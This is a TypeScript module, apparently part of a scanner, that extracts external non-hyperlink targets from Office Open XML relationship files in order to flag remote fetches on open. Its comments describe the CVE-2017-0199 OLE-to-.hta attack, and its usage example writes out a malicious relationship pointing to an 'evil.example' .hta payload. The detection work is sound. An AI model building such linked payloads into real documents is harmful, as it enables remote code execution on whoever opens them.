import { decodeEntities } from './html-text.js';

// An Office Open XML document's relationships (`_rels/*.rels`) may name parts outside it (`TargetMode="External"`),
// which Word fetches as the document opens: an OLE object linked to `http://host/run.hta` (the CVE-2017-0199
// shape), a template, a frame. Hyperlinks are left out: a reader follows one only by clicking it, as in a body.
// A tag's attributes end at the next `<` or `>`: each character is read once, however the tags are cut.
const RELATIONSHIP = /<(?:[\w.-]{1,64}:)?Relationship\b([^<>]*)/gi;

/**
 * The targets of a relationships part's external relationships other than hyperlinks. Linear in its size.
 *
 * @example
 * ```ts
 * externalTargets(Buffer.from('<Relationship Type="…/oleObject" Target="http://evil.example/x.hta" TargetMode="External"/>'));
 * // ['http://evil.example/x.hta']
 * ```
 */
export function externalTargets(rels: Buffer): string[] {
  const xml = xmlText(rels);
  if (!/external/i.test(xml) && !xml.includes('&')) return [];
  const targets: string[] = [];
  for (const m of xml.matchAll(RELATIONSHIP)) {
    const attributes = attributesOf(m[1] as string);
    if (attributes.get('targetmode')?.toLowerCase() !== 'external') continue;
    if (/\/hyperlink$/i.test(attributes.get('type') ?? '')) continue;
    const target = attributes.get('target');
    if (target) targets.push(target);
  }
  return targets;
}

// `name="value"` pairs, names lower-cased, values with their references decoded; in one pass.
function attributesOf(tag: string): Map<string, string> {
  const attributes = new Map<string, string>();
  let at = 0;
  while (at < tag.length) {
    const eq = tag.indexOf('=', at);
    if (eq < 0) break;
    const name = tag.slice(at, eq).trim().split(/\s+/).pop() ?? '';
    let start = eq + 1;
    while (start < tag.length && /\s/.test(tag[start] as string)) start++;
    const quote = tag[start];
    if (quote !== '"' && quote !== "'") {
      at = start;
      continue;
    }
    const end = tag.indexOf(quote, start + 1);
    const value = tag.slice(start + 1, end < 0 ? tag.length : end);
    attributes.set(name.toLowerCase(), decodeEntities(value).trim());
    at = end < 0 ? tag.length : end + 1;
  }
  return attributes;
}

// XML as Office reads it: UTF-16 with a byte order mark (or a `<` then a NUL), else UTF-8.
function xmlText(bytes: Buffer): string {
  if (bytes[0] === 0xff && bytes[1] === 0xfe) return bytes.toString('utf16le', 2);
  if (bytes[0] === 0xfe && bytes[1] === 0xff)
    return Buffer.from(bytes.subarray(2)).swap16().toString('utf16le');
  if (bytes[0] === 0x3c && bytes[1] === 0) return bytes.toString('utf16le');
  return bytes.toString('utf8');
}
